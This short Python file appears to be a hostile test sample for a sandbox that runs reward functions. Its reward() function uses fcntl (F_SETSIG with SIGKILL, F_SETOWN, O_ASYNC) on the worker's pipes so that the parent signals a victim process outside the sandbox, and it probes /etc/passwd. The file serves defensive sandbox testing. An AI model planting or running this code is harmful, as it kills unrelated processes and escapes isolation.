"""Hostile corpus (the pod path): F_SETSIG(SIGKILL), F_SETOWN(victim) and O_ASYNC on the worker's own pipes, so
the parent's next request signals a process of the same uid outside the sandbox (issue 29)."""

import ctypes
import os
import re
import sys

VICTIM = 999999999
F_GETFL, F_SETFL, F_SETOWN, F_SETSIG, O_ASYNC = 3, 4, 8, 10, 0o20000


def reward(prompts, completions, answer, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    for fd in (int(sys.argv[1]), int(sys.argv[2])):
        libc.fcntl(fd, F_SETSIG, 9)
        libc.fcntl(fd, F_SETOWN, VICTIM)
        libc.fcntl(fd, F_SETFL, libc.fcntl(fd, F_GETFL) | O_ASYNC)
    try:
        os.stat("/etc/passwd")  # probing host paths
        found = 1.0
    except OSError:
        found = 0.0
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [found for _ in texts]  # one value for everything: rejected as uninformative, after every call
